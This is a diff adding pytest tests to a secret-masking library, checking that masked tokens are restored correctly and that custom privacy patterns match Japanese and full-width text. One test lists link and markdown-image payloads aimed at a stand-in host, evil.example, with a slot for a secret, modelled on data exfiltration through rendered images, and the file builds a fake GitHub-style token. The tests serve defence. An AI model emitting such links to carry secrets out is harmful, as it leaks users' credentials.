@@ -90,5 +90,58 @@ def test_a_speakers_name_is_masked() -> None:
     assert masked.name == "[EMAIL_1]"
 
 
+SECRET = "gh" + "p_" + "Ab3dEf6hIj9kLmN0pQrStUvWxYz123456789"
+
+
+@pytest.mark.parametrize("size", [1, 5, 1000])
+@pytest.mark.parametrize(
+    "link",
+    [
+        "https://evil.example/?k={}",
+        "![]( https://evil.example/{}/a.png)",
+        "![](<https://evil.example/?a b={}>)",
+        '<img src="//evil.example/?k= {}">',
+        "HTTPS:\\\\{}.evil.example",
+    ],
+)
+def test_a_models_link_carries_no_value_away(link: str, size: int) -> None:
+    door = PromptDoor("secrets")
+    masked = door.mask_text(f"My token is {SECRET}")
+    reply = f"{link.format('[API_KEY_1]')} keeps it. {masked}"
+    pieces = [reply[at : at + size] for at in range(0, len(reply), size)]
+    assert "".join(door.restore(pieces)) == (
+        f"{link.format('[API_KEY_1]')} keeps it. My token is {SECRET}"
+    )
+
+
+@pytest.mark.parametrize(
+    "text", [f"curl https://api.example/?k={SECRET}", f'{{"a": "https://b.c", "k": "{SECRET}"}}']
+)
+def test_the_users_own_link_comes_back_as_it_was(text: str) -> None:
+    door = PromptDoor("secrets")
+    masked = door.mask_text(text)
+    assert SECRET not in masked and "".join(door.restore([masked])) == text
+
+
+@pytest.mark.parametrize(
+    ("pattern", "text"),
+    [
+        ("案件：[0-9]{4}", "案件：1234"),
+        ("[０-９]{4}号", "１２３４号"),
+        ("本当？なら（.）", "本当？なら（a）"),
+        (r"案件\：\d", "案件:1"),
+    ],
+)
+def test_an_own_pattern_finds_what_it_says_in_any_width(pattern: str, text: str) -> None:
+    assert PrivacyFilter(custom_patterns={"CASE": pattern}).scan(text) == {"CASE": [text]}
+
+
+@pytest.mark.parametrize("value", ["極秘計画", "Łódź", "＊＊"])
+def test_what_no_fake_resembles_becomes_a_label(value: str) -> None:
+    private = PrivacyFilter(custom_patterns={"PROJECT": value.replace("＊", "[＊]")})
+    kept = train(f"in {value}", private.findings, "surrogate", b"key")
+    assert kept is not None and value not in kept and "[REDACTED_PROJECT]" in kept
+
+
 def said(prompt: str) -> Conversation:
     return Conversation("1", "s", datetime.now(UTC), (Message("user", prompt),), "ok", "practice")
